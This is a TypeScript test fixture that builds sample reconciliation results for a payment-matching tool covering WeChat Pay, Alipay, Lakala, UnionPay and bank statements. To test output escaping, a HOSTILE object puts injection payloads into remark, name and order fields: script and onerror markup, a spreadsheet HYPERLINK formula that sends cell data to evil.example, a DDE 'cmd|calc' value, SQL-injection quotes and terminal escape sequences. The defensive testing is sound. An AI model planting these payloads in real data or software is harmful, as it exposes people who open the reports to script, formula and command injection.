/**
 * Results by hand, for what shows them: one with every class of break, hostile text in every field a stranger can write, two
 * currencies, a refused document and rejected lines; one that is clean; one with as many breaks as wanted.
 * The proof is computed from the breaks, so it holds whatever is added.
 */

import { contentId, sha256 } from '../../src/base/ids.ts';
import type { Text } from '../../src/base/lang.ts';
import { sumTexts } from '../../src/reconcile/report/summary.ts';
import type {
  Amount,
  Batch,
  Break,
  BreakClass,
  DocumentResult,
  Evidence,
  Joint,
  Proof,
  Result,
} from '../../src/reconcile/result.ts';
import type { FindingCode } from '../../src/verdicts/findings.ts';

/** What an attacker who may fill in a remark, a name or an order number would try. */
export const HOSTILE = {
  markup: '</script><img src=x onerror="alert(1)"><script>alert(2)</script>',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"退款")',
  quotes: `"><svg onload=alert(3)> ' OR 1=1 --`,
  terminal: '\u001b[2J\u001b]0;pwned\u0007\u202e',
} as const;

const cny = (amount: string): Amount => ({ amount, currency: 'CNY' });
const jpy = (amount: string): Amount => ({ amount, currency: 'JPY' });
const both = (zh: string, en: string): Text => ({ zh, en });

const ORDERS = '11月订单.csv';
const WECHAT = '微信支付/1900000109All2026-11-20.csv';
const ALIPAY = 'alipay.zip › 20885210_业务明细.csv';
const LAKALA = 'lakala_20261120.csv';
const UNIONPAY = 'INN26112088ZM_777290058110048';
const BANK = 'camt053-20261123.xml';

let nextRow = 12;
function evidence(
  role: Evidence['role'],
  file: string,
  money: Amount,
  refs: Evidence['refs'],
  more: Partial<Evidence> = {},
): Evidence {
  nextRow += 7;
  const raw =
    more.raw ??
    [more.occurredAt?.slice(0, 19), ...Object.values(refs), money.amount, more.party, more.text]
      .filter(Boolean)
      .join(',`');
  return {
    role,
    file,
    sha256: sha256(file),
    line: nextRow,
    at: nextRow * 214,
    length: raw.length,
    kind: role === 'batch' ? 'stated' : 'payment',
    ...(role !== 'batch' && { status: role === 'order' ? 'paid' : 'done' }),
    money,
    refs,
    ...more,
    raw,
  };
}

/** The most usual finding of each class. */
const FINDING = {
  ours_only: 'no_payment',
  theirs_only: 'no_order',
  amount: 'underpaid',
  status: 'paid_after_close',
  duplicate: 'duplicate',
  fee: 'fee_differs',
  batch_missing: 'not_settled',
  batch_short: 'settled_short',
  bank_missing: 'bank_late',
  bank_unidentified: 'credit_unidentified',
  timing: 'day_cut',
  ambiguous: 'unclear',
} as const satisfies Record<BreakClass, FindingCode>;

type Draft = Omit<Break, 'id' | 'finding' | 'counts' | 'also' | 'candidates' | 'ours' | 'theirs'> & Partial<Break>;
function item(draft: Draft): Break {
  const ours = draft.ours ?? [];
  const theirs = draft.theirs ?? [];
  const lines = [...ours, ...theirs].map((e) => `${e.file}:${e.line}`);
  return {
    id: contentId('br', [draft.class, draft.joint, ...lines, ...Object.values(draft.amount)]),
    counts: { ours: ours.length, theirs: theirs.length },
    finding: FINDING[draft.class],
    also: [],
    candidates: [],
    ...draft,
    ours,
    theirs,
  };
}

const BREAKS: readonly Break[] = [
  item({
    class: 'bank_missing',
    joint: 'bank',
    difference: cny('8214.50'),
    amount: cny('8214.50'),
    channel: 'wechatpay',
    account: '1900000109',
    businessOn: '2026-11-19',
    ours: [
      {
        role: 'batch',
        // A batch that follows from the plan stands on its lines; no document states it.
        file: '',
        sha256: '',
        kind: 'implied',
        money: cny('8214.50'),
        businessOn: '2026-11-19',
        channel: 'wechatpay',
        account: '1900000109',
        refs: {},
      },
    ],
    counts: { ours: 1, theirs: 0 },
    verdict: 'late',
    also: ['held'],
    release: 'yes',
    cause: 'third_party',
    reason: 'PAYOUT_PENDING',
    custody: 'payout',
    promise: '2026-11-20',
    says: both(
      '11月19日的结算 ¥8,214.50 应在 11月20日 到账,银行流水到 11月23日 仍没有。',
      'The settlement of 19 November, 8,214.50 CNY, was due on 20 November; the statement up to 23 November does not show it.',
    ),
    next: [
      {
        action: 'ask_channel',
        owner: 'accountant',
        by: '2026-11-24',
        text: both(
          '向微信支付查询 11月19日 的出款单号与状态',
          'Ask WeChat Pay for the payout number and state of 19 November',
        ),
      },
      {
        action: 'check_account',
        owner: 'operations',
        text: both(
          '核对商户平台上的结算账户尾号',
          'Check the last digits of the settlement account at the merchant platform',
        ),
      },
    ],
  }),
  item({
    class: 'bank_unidentified',
    joint: 'bank',
    difference: cny('-2000.00'),
    amount: cny('2000.00'),
    account: '6222****0482',
    businessOn: '2026-11-21',
    theirs: [
      evidence(
        'bank',
        BANK,
        cny('2000.00'),
        { bank_ref: 'ZX20261121000482771' },
        {
          kind: 'adjustment',
          businessOn: '2026-11-21',
          account: '6222****0482',
          party: HOSTILE.markup,
          text: HOSTILE.quotes,
        },
      ),
    ],
    candidates: [
      evidence(
        'batch',
        UNIONPAY,
        cny('2000.00'),
        { batch: 'UP-20261120-01' },
        { businessOn: '2026-11-20', channel: 'unionpay' },
      ),
      evidence(
        'batch',
        LAKALA,
        cny('2000.00'),
        { batch: 'LKL-20261120' },
        { businessOn: '2026-11-20', channel: 'lakala' },
      ),
    ],
    verdict: 'unknown',
    release: 'ask',
    cause: 'none',
    reason: 'EVIDENCE_MISSING',
    custody: 'merchant',
    says: both(
      '11月21日 银行收到 ¥2,000.00,摘要说不清是哪个批次;两个批次金额相同。',
      'On 21 November the bank received 2,000.00 CNY; its text names no batch, and two batches have this amount.',
    ),
    next: [
      {
        action: 'identify',
        owner: 'accountant',
        by: '2026-11-25',
        text: both('向银行索取付款附言全文', 'Ask the bank for the full remittance text'),
      },
    ],
  }),
  item({
    class: 'ours_only',
    joint: 'orders',
    difference: cny('1280.00'),
    amount: cny('1280.00'),
    channel: 'wechatpay',
    account: '1900000109',
    businessOn: '2026-11-20',
    ours: [
      evidence(
        'order',
        ORDERS,
        cny('1280.00'),
        { order: '20261120-7731' },
        {
          occurredAt: '2026-11-20 14:02:10+08:00',
          businessOn: '2026-11-20',
          store: '门店 03',
          terminal: 'POS-2',
          party: '王小明',
          text: '羽绒服',
        },
      ),
    ],
    verdict: 'unpaid',
    release: 'no',
    cause: 'fraud',
    reason: 'NO_PAYMENT',
    custody: 'customer',
    says: both(
      '订单 20261120-7731 记为已付 ¥1,280.00,11月20日 的微信支付完整账单里没有这笔。',
      'Order 20261120-7731 says paid, 1,280.00 CNY; the complete WeChat Pay bill of 20 November does not have it.',
    ),
    next: [
      {
        action: 'stop_goods',
        owner: 'cashier',
        text: both('货未交出的先留下', 'Keep the goods if they are still here'),
      },
      {
        action: 'ask_customer',
        owner: 'operations',
        by: '2026-11-24',
        text: both(
          '请顾客出示账单详情里的商户单号',
          'Ask the customer for the merchant order number in the bill details',
        ),
      },
    ],
  }),
  item({
    class: 'batch_missing',
    joint: 'batches',
    difference: cny('520.00'),
    amount: cny('520.00'),
    channel: 'lakala',
    account: '82229005812',
    businessOn: '2026-11-18',
    ours: [
      evidence(
        'channel',
        LAKALA,
        cny('520.00'),
        { channel_trade: '66210312345820', wallet_trade: '4200002345202611181122334455' },
        {
          occurredAt: '2026-11-18 22:58:41+08:00',
          businessOn: '2026-11-18',
          terminal: 'A0073112',
        },
      ),
    ],
    verdict: 'late',
    release: 'yes',
    cause: 'third_party',
    reason: 'UNSETTLED_WAITING',
    custody: 'channel',
    promise: '2026-11-19',
    says: both(
      '拉卡拉 11月18日 的一笔 ¥520.00 没有进任何结算批次。',
      'A Lakala payment of 18 November, 520.00 CNY, is in no settlement batch.',
    ),
    next: [
      {
        action: 'ask_channel',
        owner: 'channel',
        by: '2026-11-25',
        text: both('请拉卡拉说明这笔的结算日期', 'Lakala to state the settlement day of this payment'),
      },
    ],
  }),
  item({
    class: 'theirs_only',
    joint: 'orders',
    difference: cny('-366.00'),
    amount: cny('366.00'),
    channel: 'alipay',
    account: '2088521012345678',
    businessOn: '2026-11-20',
    theirs: [
      evidence(
        'channel',
        ALIPAY,
        cny('366.00'),
        { order: '20261120-7802', channel_trade: '2026112022001412341409876543' },
        {
          occurredAt: '2026-11-20 18:40:02+08:00',
          businessOn: '2026-11-20',
          store: '门店 01',
          party: '*晓华',
        },
      ),
    ],
    verdict: 'unrecorded',
    release: 'yes',
    cause: 'system_fault',
    reason: 'NOTIFY_LOST',
    custody: 'channel',
    says: both(
      '支付宝收到订单 20261120-7802 的 ¥366.00,订单仍是未付:支付通知丢了。',
      'Alipay holds 366.00 CNY for order 20261120-7802, which still says unpaid: the notification was lost.',
    ),
    next: [{ action: 'repair', owner: 'operations', text: both('把订单补记为已付', 'Record the order as paid') }],
  }),
  item({
    class: 'amount',
    joint: 'orders',
    difference: cny('90.00'),
    amount: cny('90.00'),
    channel: 'lakala',
    businessOn: '2026-11-20',
    ours: [
      evidence(
        'order',
        ORDERS,
        cny('100.00'),
        { order: '20261120-7790' },
        { occurredAt: '2026-11-20 12:20:00+08:00', store: '门店 02' },
      ),
    ],
    theirs: [
      evidence(
        'channel',
        LAKALA,
        cny('10.00'),
        { order: '20261120-7790', channel_trade: '66210312345877' },
        {
          occurredAt: '2026-11-20 12:20:31+08:00',
          businessOn: '2026-11-20',
          terminal: 'A0073112',
        },
      ),
    ],
    verdict: 'underpaid',
    release: 'ask',
    cause: 'operator_error',
    reason: 'PARTIAL_OR_DISCOUNT',
    custody: 'customer',
    says: both(
      '订单 20261120-7790 应收 ¥100.00,渠道只收到 ¥10.00。',
      'Order 20261120-7790 is 100.00 CNY; the channel received 10.00 CNY.',
    ),
    next: [{ action: 'collect', owner: 'cashier', text: both('补收 ¥90.00', 'Collect 90.00 CNY') }],
  }),
  item({
    class: 'status',
    joint: 'orders',
    difference: cny('-58.00'),
    amount: cny('58.00'),
    channel: 'wechatpay',
    businessOn: '2026-11-20',
    ours: [
      evidence(
        'order',
        ORDERS,
        cny('58.00'),
        { order: '20261120-7745' },
        { status: 'closed', occurredAt: '2026-11-20 15:00:00+08:00' },
      ),
    ],
    theirs: [
      evidence(
        'channel',
        WECHAT,
        cny('58.00'),
        { order: '20261120-7745', channel_trade: '4200002345202611201122339911' },
        { occurredAt: '2026-11-20 15:00:05+08:00' },
      ),
    ],
    verdict: 'paid_after_close',
    release: 'ask',
    cause: 'sync_delay',
    reason: 'CLOSED_THEN_PAID',
    custody: 'channel',
    says: both(
      '订单 20261120-7745 关闭 5 秒后,顾客付了 ¥58.00。',
      'Order 20261120-7745 was closed; five seconds later the customer paid 58.00 CNY.',
    ),
    next: [
      {
        action: 'reopen_or_refund',
        owner: 'operations',
        by: '2026-11-24',
        text: both('重开订单,或退款', 'Reopen the order, or refund'),
      },
    ],
  }),
  item({
    class: 'batch_short',
    joint: 'batches',
    difference: cny('45.00'),
    amount: cny('45.00'),
    channel: 'alipay',
    businessOn: '2026-11-20',
    ours: [evidence('channel', ALIPAY, cny('3045.00'), { batch: '2026112100043' }, { kind: 'payout' })],
    theirs: [evidence('batch', ALIPAY, cny('3000.00'), { batch: '2026112100043' }, { kind: 'payout' })],
    counts: { ours: 212, theirs: 1 },
    verdict: 'short_settled',
    release: 'yes',
    cause: 'third_party',
    reason: 'FEE_DIFFERS',
    custody: 'settlement',
    promise: '2026-11-21',
    says: both(
      '批次 2026112100043 比其中 212 行之和少 ¥45.00。',
      'Batch 2026112100043 holds 45.00 CNY less than the sum of its 212 lines.',
    ),
    next: [
      {
        action: 'claim',
        owner: 'accountant',
        by: '2026-11-26',
        text: both('向支付宝索要差额明细', 'Ask Alipay for the detail of the difference'),
      },
    ],
  }),
  item({
    class: 'duplicate',
    joint: 'orders',
    difference: cny('-36.50'),
    amount: cny('36.50'),
    channel: 'wechatpay',
    businessOn: '2026-11-20',
    ours: [evidence('order', ORDERS, cny('36.50'), { order: '20261120-7750' })],
    theirs: [
      evidence('channel', WECHAT, cny('36.50'), {
        order: '20261120-7750',
        channel_trade: '4200002345202611201122340001',
      }),
      evidence('channel', WECHAT, cny('36.50'), {
        order: '20261120-7750',
        channel_trade: '4200002345202611201122340002',
      }),
    ],
    verdict: 'duplicate',
    release: 'yes',
    cause: 'operator_error',
    reason: 'DUPLICATE_PAID',
    custody: 'channel',
    says: both('订单 20261120-7750 收到两次 ¥36.50。', 'Order 20261120-7750 was paid 36.50 CNY twice.'),
    next: [
      {
        action: 'refund',
        owner: 'accountant',
        by: '2026-11-24',
        text: both('退回多付的 ¥36.50', 'Refund the surplus of 36.50 CNY'),
      },
    ],
  }),
  item({
    class: 'fee',
    joint: 'batches',
    difference: cny('12.34'),
    amount: cny('12.34'),
    channel: 'unionpay',
    account: '777290058110048',
    businessOn: '2026-11-20',
    ours: [
      evidence(
        'channel',
        UNIONPAY,
        cny('2057.00'),
        { channel_trade: '212611201403010000018' },
        { account: '777290058110048' },
      ),
    ],
    theirs: [],
    verdict: 'short_settled',
    release: 'yes',
    cause: 'third_party',
    reason: 'FEE_DIFFERS',
    custody: 'settlement',
    says: both(
      '银联按 1.20% 扣费,约定是 0.60%,多扣 ¥12.34。',
      'UnionPay charged 1.20 %; 0.60 % was agreed: 12.34 CNY too much.',
    ),
    next: [
      { action: 'claim', owner: 'accountant', text: both('凭合同向银联要求退还', 'Claim it back with the contract') },
    ],
  }),
  item({
    class: 'ours_only',
    joint: 'orders',
    difference: cny('9.90'),
    amount: cny('9.90'),
    channel: 'unionpay',
    businessOn: '2026-11-20',
    ours: [
      evidence(
        'order',
        ORDERS,
        cny('9.90'),
        { order: HOSTILE.formula, payment: '-1+cmd|calc' },
        {
          party: HOSTILE.formula,
          text: HOSTILE.terminal,
          store: '@SUM(A1:A9)',
          raw: `${HOSTILE.formula},${HOSTILE.markup},9.90`,
        },
      ),
    ],
    verdict: 'unknown',
    release: 'ask',
    cause: 'none',
    reason: 'EVIDENCE_MISSING',
    custody: 'not_known',
    says: both(
      `订单 ${HOSTILE.formula} 记为已付 ¥9.90,付款人 ${HOSTILE.markup}${HOSTILE.terminal};银联没有。`,
      `Order ${HOSTILE.formula} says paid, 9.90 CNY, by ${HOSTILE.markup}${HOSTILE.terminal}; UnionPay does not have it.`,
    ),
    next: [
      {
        action: 'get_bill',
        owner: 'operations',
        text: both('下载 11月20日 的银联对账文件', 'Download the UnionPay file of 20 November'),
      },
    ],
  }),
  item({
    class: 'theirs_only',
    joint: 'orders',
    difference: jpy('-12000'),
    amount: jpy('12000'),
    channel: 'alipay',
    account: '2088521012345678',
    businessOn: '2026-11-20',
    theirs: [
      evidence(
        'channel',
        ALIPAY,
        jpy('12000'),
        { channel_trade: '2026112022001412341409000001' },
        { occurredAt: '2026-11-20 09:12:44+09:00', store: '心斎橋店' },
      ),
    ],
    verdict: 'unrecorded',
    release: 'yes',
    cause: 'none',
    reason: 'NO_ORDER',
    custody: 'channel',
    says: both('支付宝收到 12,000 JPY,没有任何订单与它对应。', 'Alipay holds 12,000 JPY that belongs to no order.'),
    next: [
      {
        action: 'identify',
        owner: 'accountant',
        text: both('问心斎橋店这笔是什么', 'Ask the Shinsaibashi shop what it was for'),
      },
    ],
  }),
];

const OPEN: readonly Break[] = [
  item({
    class: 'bank_missing',
    joint: 'bank',
    difference: cny('3141.59'),
    amount: cny('3141.59'),
    channel: 'lakala',
    account: '82229005812',
    businessOn: '2026-11-22',
    verdict: 'on_its_way',
    release: 'yes',
    cause: 'none',
    reason: 'UNSETTLED_WAITING',
    custody: 'payout',
    promise: '2026-11-24',
    says: both(
      '拉卡拉 11月22日 的结算 ¥3,141.59 预计 11月24日 到账。',
      'The Lakala settlement of 22 November, 3,141.59 CNY, is due on 24 November.',
    ),
    next: [
      {
        action: 'look_again',
        owner: 'accountant',
        by: '2026-11-24',
        text: both('11月24日 用新的银行流水再对一次', 'Reconcile again on 24 November with the new statement'),
      },
    ],
  }),
  item({
    class: 'timing',
    joint: 'orders',
    difference: cny('128.00'),
    amount: cny('128.00'),
    channel: 'wechatpay',
    businessOn: '2026-11-22',
    ours: [
      evidence('order', ORDERS, cny('128.00'), { order: '20261122-8101' }, { occurredAt: '2026-11-22 23:59:50+08:00' }),
    ],
    verdict: 'on_its_way',
    release: 'ask',
    cause: 'sync_delay',
    reason: 'DAY_CUT',
    custody: 'not_known',
    promise: '2026-11-24',
    says: both(
      '23:59:50 的订单,渠道应记在下一天。',
      'An order of 23:59:50; the channel should have it on the next day.',
    ),
    next: [
      {
        action: 'look_again',
        owner: 'accountant',
        by: '2026-11-24',
        text: both('等 11月23日 的账单', 'Wait for the bill of 23 November'),
      },
    ],
  }),
  item({
    class: 'ours_only',
    joint: 'orders',
    difference: cny('66.00'),
    amount: cny('66.00'),
    channel: 'unionpay',
    businessOn: '2026-11-21',
    ours: [evidence('order', ORDERS, cny('66.00'), { order: '20261121-7999' })],
    verdict: 'unknown',
    release: 'ask',
    cause: 'none',
    reason: 'EVIDENCE_MISSING',
    custody: 'not_known',
    says: both(
      '缺 11月21日 的银联账单,无法判断。',
      'The UnionPay bill of 21 November is missing; nothing can be said.',
    ),
    next: [
      {
        action: 'get_bill',
        owner: 'operations',
        text: both('下载 11月21日 的银联对账文件', 'Download the UnionPay file of 21 November'),
      },
    ],
  }),
  item({
    class: 'batch_missing',
    joint: 'batches',
    difference: cny('200.00'),
    amount: cny('200.00'),
    channel: 'alipay',
    businessOn: '2026-11-22',
    ours: [evidence('channel', ALIPAY, cny('200.00'), { channel_trade: '2026112222001412341409111111' })],
    verdict: 'on_its_way',
    release: 'yes',
    cause: 'none',
    reason: 'UNSETTLED_WAITING',
    custody: 'settlement',
    promise: '2026-11-25',
    says: both(
      '支付宝 11月22日 的 ¥200.00 还没到结算日。',
      'The 200.00 CNY of 22 November at Alipay is not due for settlement yet.',
    ),
    next: [],
  }),
];

const AMBIGUOUS: readonly Break[] = [
  item({
    class: 'ambiguous',
    joint: 'orders',
    difference: cny('9.90'),
    amount: cny('29.70'),
    channel: 'lakala',
    businessOn: '2026-11-20',
    ours: [7801, 7802, 7803].map((n) =>
      evidence('order', ORDERS, cny('9.90'), { order: `20261120-${n}B` }, { occurredAt: '2026-11-20 18:02:00+08:00' }),
    ),
    theirs: [1, 2].map((n) =>
      evidence(
        'channel',
        LAKALA,
        cny('9.90'),
        { channel_trade: `6621031234590${n}` },
        { occurredAt: '2026-11-20 18:02:30+08:00' },
      ),
    ),
    verdict: 'unknown',
    release: 'ask',
    cause: 'none',
    reason: 'SEVERAL_FIT',
    custody: 'not_known',
    says: both(
      '同一分钟、同一终端,3 笔 ¥9.90 的订单对 2 笔 ¥9.90 的收款。',
      'One minute, one terminal: three orders of 9.90 CNY and two payments of 9.90 CNY.',
    ),
    next: [
      {
        action: 'decide',
        owner: 'accountant',
        text: both('看小票,指明哪一笔没付', 'Look at the slips and say which one was not paid'),
      },
    ],
  }),
  item({
    class: 'ambiguous',
    joint: 'bank',
    difference: cny('0.00'),
    amount: cny('5000.00'),
    channel: 'unionpay',
    businessOn: '2026-11-21',
    theirs: [evidence('bank', BANK, cny('5000.00'), { bank_ref: 'ZX20261121000482790' }, { kind: 'payout' })],
    verdict: 'unknown',
    release: 'ask',
    cause: 'none',
    reason: 'SEVERAL_FIT',
    custody: 'merchant',
    says: both(
      '一笔 ¥5,000.00 的来款,两个批次的净额都是它。',
      'One credit of 5,000.00 CNY; two batches have just this net amount.',
    ),
    next: [],
  }),
];

/** Σ ours per joint and currency; theirs follows from the differences. */
const OURS: ReadonlyArray<readonly [Joint, string, string]> = [
  ['orders', 'CNY', '512300.00'],
  ['orders', 'JPY', '1284000'],
  ['batches', 'CNY', '511201.50'],
  ['bank', 'CNY', '506840.10'],
];

const MATCHED = [1891, 96, 1978, 35];

function proofOf(broken: readonly Break[], open: readonly Break[], ambiguous: readonly Break[]): Proof[] {
  const keyed = [
    ...[...broken, ...ambiguous].map((b) => [b.class as string, b] as const),
    ...open.map((b) => [`${b.class} (open)`, b] as const),
  ];
  return OURS.map(([joint, currency, ours], at) => {
    const here = keyed.filter(([, b]) => b.joint === joint && b.difference.currency === currency);
    const zero = currency === 'JPY' ? '0' : '0.00';
    const sum = (list: typeof here) => sumTexts([zero, ...list.map(([, b]) => b.difference.amount)]);
    const keys = [...new Set(here.map(([key]) => key))].sort();
    const difference = sum(here);
    const breaks = here.filter(([, b]) => broken.includes(b)).length;
    const money = (amount: string): Amount => ({ amount, currency });
    return {
      joint,
      currency,
      ours: money(ours),
      theirs: money(sumTexts([ours, difference.startsWith('-') ? difference.slice(1) : `-${difference}`])),
      difference: money(difference),
      explained: Object.fromEntries(keys.map((key) => [key, money(sum(here.filter(([k]) => k === key)))])),
      residual: money(zero),
      counts: {
        ours: { matched: MATCHED[at]!, break: breaks, carried: here.length - breaks, not_paid: at === 0 ? 14 : 0 },
        theirs: { matched: MATCHED[at]!, break: breaks },
      },
    };
  });
}

const check = (zh: string, en: string, value: string) => ({ name: both(zh, en), expected: value, actual: value });

function document(
  file: string,
  format: string,
  role: DocumentResult['role'],
  lines: number,
  more: Partial<DocumentResult> = {},
): DocumentResult {
  return {
    file,
    sha256: sha256(file),
    bytes: lines * 214 + 96,
    format,
    role,
    encoding: 'utf-8',
    from: '2026-11-20',
    to: '2026-11-22',
    lines,
    rejected: 0,
    repeated: 0,
    checks: [],
    notes: [],
    ...more,
  };
}

const DOCUMENTS: readonly DocumentResult[] = [
  document(ORDERS, 'order-csv', 'order', 2004, { rejected: 2 }),
  document(WECHAT, 'wechatpay-trade', 'channel', 1204, {
    channel: 'wechatpay',
    account: '1900000109',
    checks: [
      check('总交易单数', 'total transactions', '1204'),
      check('应结订单总金额', 'total to settle', '268110.40'),
    ],
  }),
  document(ALIPAY, 'alipay-trade', 'channel', 512, {
    channel: 'alipay',
    account: '2088521012345678',
    encoding: 'gb18030',
    repeated: 31,
  }),
  document(LAKALA, 'lakala-trade', 'channel', 210, { channel: 'lakala', account: '82229005812' }),
  document(UNIONPAY, 'unionpay-zm', 'channel', 72, {
    channel: 'unionpay',
    account: '777290058110048',
    checks: [check('总笔数', 'rows', '72')],
  }),
  document(BANK, 'camt053', 'bank', 37, {
    account: '6222****0482',
    checks: [check('期末余额', 'closing balance', '1204551.20')],
    notes: [both('第 3 份账单重复第 2 份', 'statement 3 repeats statement 2')],
  }),
];

function batch(channel: string, day: string, net: string, state: Batch['state'], more: Partial<Batch> = {}): Batch {
  return {
    id: contentId('ba', [channel, day]),
    kind: 'implied',
    channel,
    account:
      { wechatpay: '1900000109', alipay: '2088521012345678', lakala: '82229005812', unionpay: '777290058110048' }[
        channel
      ] ?? '',
    businessFrom: day,
    businessTo: day,
    lines: 120,
    gross: cny(sumTexts([net, '50.00'])),
    refunds: cny('-20.00'),
    fees: cny('30.00'),
    net: cny(net),
    state,
    ...more,
  };
}

const BATCHES: readonly Batch[] = [
  batch('wechatpay', '2026-11-19', '8214.50', 'late', { dueOn: '2026-11-20' }),
  batch('wechatpay', '2026-11-20', '88340.12', 'credited', {
    dueOn: '2026-11-21',
    creditedOn: '2026-11-21',
    bankAccount: '6222****0482',
  }),
  batch('wechatpay', '2026-11-21', '91020.55', 'on_its_way', { dueOn: '2026-11-24' }),
  batch('alipay', '2026-11-20', '3000.00', 'short', {
    kind: 'stated',
    ref: '2026112100043',
    dueOn: '2026-11-21',
    creditedOn: '2026-11-21',
  }),
  batch('alipay', '2026-11-12', '1870.00', 'returned', { kind: 'payout', ref: '2026111300017', dueOn: '2026-11-13' }),
  batch('lakala', '2026-11-20', '12840.00', 'credited', { dueOn: '2026-11-21', creditedOn: '2026-11-21' }),
  batch('lakala', '2026-11-22', '3141.59', 'on_its_way', { dueOn: '2026-11-24' }),
  batch('unionpay', '2026-11-20', '24310.00', 'not_checked', {
    kind: 'stated',
    ref: 'UP-20261120-01',
    dueOn: '2026-11-21',
  }),
];

const stage = (amount: string, count: number, currency = 'CNY') => ({ amount: { amount, currency }, count });

/** Every class of break, everything that can go wrong, and hostile text. */
export function sampleResult(): Result {
  return {
    schema: 'daozhang.reconcile/1',
    state: 'incomplete',
    asOf: '2026-11-23 10:00:00+08:00',
    timezone: 'Asia/Shanghai',
    from: '2026-11-20',
    to: '2026-11-22',
    documents: DOCUMENTS,
    refused: [
      {
        file: '支付宝_11月21日.csv.zip',
        code: 'file.cut',
        says: both(
          '支付宝_11月21日.csv.zip:文件在第 119327 字节处中断(没有结尾的汇总行);整份不采用',
          '支付宝_11月21日.csv.zip: the file ends too early, at byte 119327 (its summary rows are missing); nothing of it is used',
        ),
        remedy: both('请重新下载,这份不完整。', 'Download it again; the copy is incomplete.'),
      },
    ],
    rejected: [
      {
        file: ORDERS,
        sha256: sha256(ORDERS),
        line: 418,
        at: 89_412,
        column: '订单金额',
        code: 'bad_amount',
        value: '1,00',
        says: both('不是金额', 'not an amount'),
      },
      {
        file: ORDERS,
        sha256: sha256(ORDERS),
        line: 977,
        at: 209_120,
        column: '支付时间',
        code: 'bad_date',
        value: HOSTILE.markup,
        says: both('不是日期或时间', 'not a date or time'),
      },
    ],
    totals: {
      orders: 2004,
      channelLines: 1998,
      bankLines: 37,
      matched: 1987,
      breaks: BREAKS.length,
      open: OPEN.length,
      ambiguous: AMBIGUOUS.length,
    },
    atRisk: [cny('10622.24'), jpy('12000')],
    notCompared: [],
    passes: [
      {
        joint: 'orders',
        pass: 'channel_ref',
        title: both('渠道单号', "the channel's own number"),
        matched: 1204,
        lines: 2408,
      },
      {
        joint: 'orders',
        pass: 'order_ref+amount',
        title: both('订单号+金额', 'order number and amount'),
        matched: 783,
        lines: 1566,
      },
      {
        joint: 'batches',
        pass: 'stated',
        title: both('账单写明的批次', 'batch that the bill states'),
        matched: 212,
        lines: 213,
      },
      {
        joint: 'bank',
        pass: 'net+window',
        title: both('净额+到账日窗口', 'net amount within the value dates'),
        matched: 35,
        lines: 70,
      },
    ],
    proof: proofOf(BREAKS, OPEN, AMBIGUOUS),
    flow: [
      {
        channel: 'wechatpay',
        currency: 'CNY',
        ordered: stage('269332.40', 1206),
        captured: stage('268110.40', 1204),
        settled: stage('266501.74', 3),
        credited: stage('258287.24', 2),
        leaks: [
          { after: 'ordered', class: 'ours_only', amount: cny('1280.00'), count: 1 },
          { after: 'ordered', class: 'status', amount: cny('-58.00'), count: 1 },
          { after: 'ordered', class: 'duplicate', amount: cny('-36.50'), count: 1 },
          { after: 'settled', class: 'bank_missing', amount: cny('8214.50'), count: 1 },
        ],
      },
      {
        channel: 'alipay',
        currency: 'CNY',
        ordered: stage('121040.00', 511),
        captured: stage('121406.00', 512),
        settled: stage('120680.00', 2),
        credited: stage('120680.00', 2),
        leaks: [
          { after: 'ordered', class: 'theirs_only', amount: cny('-366.00'), count: 1 },
          { after: 'captured', class: 'batch_missing', amount: cny('200.00'), count: 1 },
          { after: 'captured', class: 'batch_short', amount: cny('45.00'), count: 1 },
        ],
      },
      {
        channel: 'lakala',
        currency: 'CNY',
        ordered: stage('48820.60', 211),
        captured: stage('48720.70', 210),
        settled: stage('48050.00', 2),
        credited: stage('44908.41', 1),
        leaks: [
          { after: 'ordered', class: 'amount', amount: cny('90.00'), count: 1 },
          { after: 'ordered', class: 'ambiguous', amount: cny('9.90'), count: 1 },
          { after: 'captured', class: 'batch_missing', amount: cny('520.00'), count: 1 },
          { after: 'settled', class: 'bank_missing', amount: cny('3141.59'), count: 1 },
        ],
      },
      {
        channel: 'unionpay',
        currency: 'CNY',
        ordered: stage('24475.90', 74),
        captured: stage('24400.00', 72),
        settled: stage('24310.00', 1),
        credited: stage('0.00', 0),
        leaks: [
          { after: 'ordered', class: 'ours_only', amount: cny('75.90'), count: 2 },
          { after: 'captured', class: 'fee', amount: cny('12.34'), count: 1 },
          { after: 'settled', class: 'bank_unidentified', amount: cny('-2000.00'), count: 1 },
        ],
      },
      {
        channel: 'alipay',
        currency: 'JPY',
        ordered: stage('1284000', 96, 'JPY'),
        captured: stage('1296000', 97, 'JPY'),
        settled: stage('0', 0, 'JPY'),
        credited: stage('0', 0, 'JPY'),
        leaks: [{ after: 'ordered', class: 'theirs_only', amount: jpy('-12000'), count: 1 }],
      },
    ],
    batches: BATCHES,
    fees: [
      {
        channel: 'wechatpay',
        account: '1900000109',
        month: '2026-11',
        currency: 'CNY',
        lines: 1204,
        gross: cny('268110.40'),
        stated: cny('1608.66240'),
        agreed: cny('1608.66240'),
      },
      {
        channel: 'alipay',
        account: '2088521012345678',
        month: '2026-11',
        currency: 'CNY',
        lines: 512,
        gross: cny('121406.00'),
        stated: cny('728.44'),
      },
      {
        channel: 'unionpay',
        account: '777290058110048',
        month: '2026-11',
        currency: 'CNY',
        lines: 72,
        gross: cny('24400.00'),
        stated: cny('158.74'),
        agreed: cny('146.40'),
      },
      {
        channel: 'alipay',
        account: '2088521012345678',
        month: '2026-11',
        currency: 'JPY',
        lines: 97,
        gross: jpy('1296000'),
        stated: jpy('7776'),
        agreed: jpy('7776'),
      },
    ],
    breaks: BREAKS,
    open: OPEN,
    ambiguous: AMBIGUOUS,
  };
}

/** Nothing to do: every order is matched, nothing waits. */
export function cleanResult(more: Partial<Result> = {}): Result {
  const sample = sampleResult();
  return {
    ...sample,
    state: 'clean',
    refused: [],
    rejected: [],
    totals: { ...sample.totals, matched: 2004, breaks: 0, open: 0, ambiguous: 0 },
    atRisk: [],
    proof: proofOf([], [], []),
    flow: sample.flow.slice(0, 1).map((row) => ({ ...row, captured: row.ordered, leaks: [] })),
    batches: sample.batches.filter((b) => b.state === 'credited'),
    breaks: [],
    open: [],
    ambiguous: [],
    ...more,
  };
}

/** `n` breaks, largest first, for what caps or pages. */
export function manyBreaks(n: number): Result {
  const sample = sampleResult();
  const model = sample.breaks[2]!;
  const breaks = Array.from({ length: n }, (_, i) => {
    const money = cny(`${n - i}.00`);
    return item({ ...model, id: contentId('br', ['many', String(i)]), difference: money, amount: money });
  });
  return {
    ...sample,
    state: 'breaks',
    refused: [],
    rejected: [],
    breaks,
    totals: { ...sample.totals, breaks: n },
    proof: proofOf(breaks, [], []),
  };
}

